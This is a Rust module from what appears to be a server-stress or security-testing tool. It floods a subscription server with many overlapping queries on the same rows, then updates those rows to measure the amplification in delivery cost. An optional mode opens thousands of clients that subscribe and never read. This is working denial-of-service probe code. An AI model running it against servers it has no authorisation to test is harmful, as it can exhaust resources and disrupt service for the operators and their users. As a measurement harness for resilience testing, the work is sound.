//! A client that asks for the same rows over and over.

use std::time::{Duration, Instant};

use futures::future::try_join_all;
use tokio::time::sleep;

use super::bystander::Bystander;
use super::wire::{Frame, Wire};
use super::{Error, Findings, Victim};
use crate::load::Marks;
use crate::load::drive::Driver;

/// How often the rows are updated, to take the median.
const UPDATES: u64 = 5;

/// How long clients that read nothing have for what they do.
const UNREAD: Duration = Duration::from_secs(3);

/// Subscribes many times to the same rows, by queries that differ, and has all rows updated.
#[derive(Clone, Debug, clap::Args)]
pub struct Overlap {
    /// How many subscriptions.
    #[arg(long, default_value_t = 1024, value_parser = clap::value_parser!(u32).range(1..=1024))]
    count: u32,
    /// The publication, whose parameter is a number that makes queries differ.
    #[arg(long, default_value = "tasks.different")]
    publication: String,
    /// The server's database, with its rows.
    #[arg(long)]
    database: String,
    /// Updates all rows that the publication shows; `$mark` becomes another text each time.
    #[arg(long, default_value = "UPDATE tasks SET text = '$mark'")]
    sql: String,
    /// Has so many clients do that who read nothing, instead of one that does.
    #[arg(long, value_parser = clap::value_parser!(u32).range(1..=5000))]
    unread: Option<u32>,
}

/// What an update cost.
struct Cost {
    /// From the statement to the last message.
    time: Duration,
    bytes: usize,
}

impl Cost {
    fn nanos_per_byte(&self) -> f64 {
        self.time.as_nanos() as f64 / self.bytes.max(1) as f64
    }

    fn tell(&self) -> String {
        let millis = self.time.as_secs_f64() * 1000.0;
        format!("{millis:.1} ms, {} B, {:.0} ns/B", self.bytes, self.nanos_per_byte())
    }
}

impl Overlap {
    /// Makes the attack.
    ///
    /// # Errors
    /// If the database cannot be updated, or the server does not send the rows and their changes.
    pub async fn run(&self, victim: Victim) -> Result<Findings, Error> {
        let mut driver = Driver::sql(&self.database, self.sql.clone(), 1).await?;
        if let Some(clients) = self.unread {
            return self.read_nothing(victim, &mut driver, clients).await;
        }
        let mut mark = 0;
        let mut costs = Vec::new();
        let mut rows = 0;
        let mut ready = Duration::ZERO;
        for count in [1, self.count] {
            let mut client = Bystander::connect(victim).await?;
            let begun = Instant::now();
            rows = self.subscribe(victim, &mut client, count).await?;
            ready = begun.elapsed();
            let mut updates = Vec::new();
            for _ in 0..UPDATES {
                mark += 1;
                updates.push(update(victim, &mut client, &mut driver, mark, rows).await?);
            }
            updates.sort_by_key(|update| update.time);
            costs.push(updates.swap_remove(updates.len() / 2));
        }
        let ratio = costs[1].nanos_per_byte() / costs[0].nanos_per_byte();
        Ok(vec![
            ("subscriptions", self.count.to_string()),
            ("rows", rows.to_string()),
            ("all ready after", format!("{:.2} s", ready.as_secs_f64())),
            ("an update of all rows, with one", costs[0].tell()),
            ("the same with all", costs[1].tell()),
            ("per delivered byte", format!("{ratio:.1} x")),
        ])
    }

    /// Has clients subscribe and the rows updated, and reads nothing of that.
    async fn read_nothing(
        &self,
        victim: Victim,
        driver: &mut Driver,
        clients: u32,
    ) -> Result<Findings, Error> {
        let frames: Vec<Frame> =
            (0..self.count).map(|number| Frame::new(&self.sub(number), false)).collect();
        let wires = try_join_all((0..clients).map(|_| async {
            let mut wire = Wire::connect(victim, false, true).await?;
            for frame in &frames {
                let sent = wire.send(frame).await;
                sent.map_err(|error| Error::Server(victim.address(), error.to_string()))?;
            }
            Ok::<_, Error>(wire)
        }));
        let wires = wires.await?;
        sleep(UNREAD).await;
        for mark in 1..=UPDATES {
            driver.step(&Marks::default(), mark, Instant::now()).await?;
        }
        sleep(UNREAD).await;
        Ok(vec![
            ("clients that read nothing", wires.len().to_string()),
            ("subscriptions of each", self.count.to_string()),
        ])
    }

    /// The message of a subscription.
    fn sub(&self, number: u32) -> String {
        let name = &self.publication;
        format!(r#"{{"msg":"sub","id":"s{number}","name":"{name}","params":[{number}]}}"#)
    }

    /// Makes the subscriptions; returns how many rows they show.
    async fn subscribe(
        &self,
        victim: Victim,
        client: &mut Bystander,
        count: u32,
    ) -> Result<usize, Error> {
        for number in 0..count {
            client.say(self.sub(number)).await?;
        }
        let (mut rows, mut ready) = (0, 0);
        let read = client.read(|message| {
            rows += usize::from(message.contains(r#""msg":"added""#));
            if message.contains(r#""msg":"ready""#) {
                ready += message.matches(r#""s"#).count() - 1;
            }
            ready == count as usize || message.contains(r#""msg":"nosub""#)
        });
        let is_read = read.await.is_some();
        if is_read && ready == count as usize && rows > 0 {
            return Ok(rows);
        }
        Err(Error::Server(victim.address(), format!("{ready} of {count} are ready, {rows} rows")))
    }
}

/// Updates the rows, and waits until the client has all of them.
async fn update(
    victim: Victim,
    client: &mut Bystander,
    driver: &mut Driver,
    mark: u64,
    rows: usize,
) -> Result<Cost, Error> {
    let begun = Instant::now();
    driver.step(&Marks::default(), mark, begun).await?;
    let (text, mut seen) = (Marks::text(mark), 0);
    let read = client.read(|message| {
        seen += usize::from(message.contains(&text));
        seen == rows
    });
    match read.await {
        Some(bytes) => Ok(Cost { time: begun.elapsed(), bytes }),
        None => Err(Error::Server(victim.address(), format!("{seen} of {rows} rows came"))),
    }
}
